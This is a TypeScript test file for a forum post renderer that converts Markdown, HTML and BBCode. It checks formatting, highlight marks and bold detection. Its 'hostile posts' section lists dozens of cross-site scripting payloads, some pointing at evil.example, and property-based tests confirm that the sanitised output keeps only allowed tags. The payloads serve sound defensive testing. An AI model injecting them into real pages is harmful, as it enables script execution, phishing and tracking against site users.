import { load } from 'cheerio';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { boldTexts } from '@/lib/engine/declarations/bold';
import { renderPost } from '@/lib/engine/markup/post';

describe('a post as it is shown', () => {
  it.each([
    ['Markdown', '**Ride Down** and *soft* and ~~gone~~', '<p><b>Ride Down</b> and <i>soft</i> and <s>gone</s></p>'],
    ['HTML', '<strong>Ride</strong> <em>x</em> <u>y</u> <del>z</del>', '<p><b>Ride</b> <i>x</i> <u>y</u> <s>z</s></p>'],
    ['BBCode', '[b]Ride[/b] [i]x[/i] [u]y[/u] [s]z[/s]', '<p><b>Ride</b> <i>x</i> <u>y</u> <s>z</s></p>'],
    ['a style', '<span style="font-weight:700">Ride</span>', '<p><b>Ride</b></p>'],
    ['nested tags', '<b>Ride <i>Down</i></b>', '<p><b>Ride <i>Down</i></b></p>'],
    ['lines and paragraphs', 'one\ntwo\n\nthree', '<p>one<br />two</p><p>three</p>'],
    ['lists', '<ol><li>a</li><li>b</li></ol>[list][*]c[/list]', '<ol><li>a</li><li>b</li></ol><ul><li>c</li></ul>'],
    ['code', 'x `a **b**` y', '<p>x <code>a **b**</code> y</p>'],
    ['a fence', '```\na\n  b\n```\nout', '<pre><code>a\n  b</code></pre><p>out</p>'],
    ['signs', '5 < 6 & "7" > 2', '<p>5 &lt; 6 &amp; "7" &gt; 2</p>'],
  ])('%s', (_, raw, html) => {
    expect(renderPost(raw)).toBe(html);
  });

  it('shows what others said as a quote, without bold, since it declares nothing', () => {
    expect(renderPost('[quote=Tam]I **fight**[/quote]\n> and [b]win[/b]\n\n**No**')).toBe(
      '<blockquote><p>I fight</p><p>and win</p></blockquote><p><b>No</b></p>',
    );
  });

  it('shows a signature as one', () => {
    expect(renderPost('Hello\n-- \n**Leader of all**')).toBe(
      '<p>Hello</p><p class="signature">-- <br />Leader of all</p>',
    );
  });

  it('links to http and https alone, and says that the site does not vouch for it', () => {
    const rel = 'rel="nofollow noopener noreferrer ugc"';
    expect(renderPost('<a href="https://a.b/c?d=1&amp;e">x</a>')).toBe(
      `<p><a href="https://a.b/c?d=1&amp;e" ${rel}>x</a></p>`,
    );
    expect(renderPost('[url=http://a.b/]x[/url] [url]https://c.d/[/url]')).toBe(
      `<p><a href="http://a.b/" ${rel}>x</a> <a href="https://c.d/" ${rel}>https://c.d/</a></p>`,
    );
  });
});

describe('marks', () => {
  const raw = 'Come. <b>Enthral &amp; Little John!</b>';

  it('stand on the raw characters, in the bold, and lead to their step', () => {
    const marks = [
      { start: 9, end: 16, ref: 1 },
      { start: 23, end: 34, ref: 3 },
    ];
    expect(renderPost(raw, { marks })).toBe(
      '<p>Come. <b><mark>Enthral</mark><a href="#step-1" class="ref">1</a> &amp; ' +
        '<mark>Little John</mark><a href="#step-3" class="ref">3</a>!</b></p>',
    );
  });

  it('go on through a change of type, with their number at the end', () => {
    expect(renderPost('**Ride *Down***', { marks: [{ start: 2, end: 12, ref: 1 }] })).toBe(
      '<p><b><mark>Ride </mark><i><mark>Down</mark><a href="#step-1" class="ref">1</a></i></b></p>',
    );
  });

  it('may be empty, overlap, or lie beyond the post', () => {
    const marks = [
      { start: 9, end: 16 },
      { start: 12, end: 30 },
      { start: 20, end: 20 },
      { start: 900, end: 999 },
    ];
    expect(renderPost(raw, { marks })).toBe('<p>Come. <b><mark>Enthral</mark> &amp; Little John!</b></p>');
  });
});

/** What no post may become: checked on the parsed result, not on its spelling. */
function harm(html: string): string[] {
  const $ = load(html, null, false);
  const found: string[] = [];
  $('*').each((_, element) => {
    if (element.type !== 'tag') return void found.push(element.type);
    if (!/^(b|i|u|s|p|br|blockquote|ul|ol|li|code|pre|a|mark)$/.test(element.name)) found.push(element.name);
    for (const [name, value] of Object.entries(element.attribs)) {
      const harmless =
        (name === 'href' && /^(https?:\/\/|#step-\d+$)/.test(value)) ||
        (name === 'rel' && value === 'nofollow noopener noreferrer ugc') ||
        (name === 'class' && /^(ref|signature)$/.test(value));
      if (!harmless) found.push(`${element.name} ${name}=${value}`);
    }
  });
  return found;
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<b onmouseover="alert(1)">bold</b>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">over all</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)">z</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
  '[url=javascript:alert(1)]x[/url]',
  '[url]javascript:alert(1)[/url]',
  '[url="https://a.b/\\" onclick=alert(1) x="]x[/url]',
  '[img]https://evil.example/track.gif[/img]',
  '![x](https://evil.example/track.gif)',
  '[b onclick=alert(1)]x[/b]',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<img src=x onerror=alert(1)>`',
  '<b class="ref signature btn act" id=main>x</b>',
  '<a class="ref" href="#step-1" id="x">1</a>',
];

describe('hostile posts', () => {
  it.each(PAYLOADS)('%s', (payload) => {
    for (const raw of [payload, `**${payload}**`, `[quote]${payload}`, `> ${payload}\n\n<code>${payload}`]) {
      expect(harm(renderPost(raw, { marks: [{ start: 1, end: 9, ref: 1 }] }))).toEqual([]);
    }
  });

  it('any pieces of markup in any order give nothing but the allow-list', () => {
    const pieces = [
      ...PAYLOADS,
      '<b>',
      '</b>',
      '**',
      '*',
      '`',
      '```',
      '[quote]',
      '[/quote]',
      '[code]',
      '\n',
      '\n\n',
      '<p>',
      '</p>',
      '<li>',
      '<a href="',
      '">',
      '<',
      '>',
      '"',
      "'",
      '&',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (parts) => {
        expect(harm(renderPost(parts.join('')))).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it('a deep or a long one is shown all the same', () => {
    expect(renderPost(`${'<b><blockquote>'.repeat(5000)}x`)).toContain('x');
    expect(renderPost('[quote]'.repeat(5000))).toBe('');
    expect(renderPost('**a '.repeat(20_000))).toContain('**a');
  });
});

describe('what looks bold', () => {
  const squeeze = (text: string) => text.replace(/\s+/g, '');
  /** All that stands in bold on the page, without what is struck out in the midst of it, which is left out of the reading. */
  const shownBold = (html: string): string =>
    load(
      html,
      null,
      false,
    )('b')
      .toArray()
      .map((element) => {
        const page = load(element);
        const all = squeeze(page('b').text());
        page('s').remove();
        return squeeze(page('b').text()) || all;
      })
      .join('');

  it('is what the reader of declarations took as bold, and nothing else', () => {
    const part = fc.constantFrom(
      'Ride Down',
      'no',
      ' ',
      '\n',
      '\n\n',
      '**',
      '__',
      '*',
      '_',
      '~~',
      '`',
      '```\n',
      '<b>',
      '</b>',
      '<strong>',
      '</strong>',
      '<i>',
      '</i>',
      '<p>',
      '</p>',
      '<blockquote>',
      '</blockquote>',
      '[b]',
      '[/b]',
      '[quote]',
      '[/quote]',
      '[code]',
      '[/code]',
      '<code>',
      '</code>',
      '<pre>',
      '</pre>',
      '\n> ',
      '<li>',
      '</li>',
      '<br>',
      '[*]',
      '<span style="font-weight:bold">',
      '</span>',
      '<div class="signature">',
      '</div>',
      '\n-- \n',
      '&amp;',
      '<script>',
      '</script>',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), (parts) => {
        const raw = parts.join('');
        expect(shownBold(renderPost(raw))).toBe(
          boldTexts(raw)
            .map(({ text }) => squeeze(text))
            .join(''),
        );
      }),
      { numRuns: 2000 },
    );
  });
});
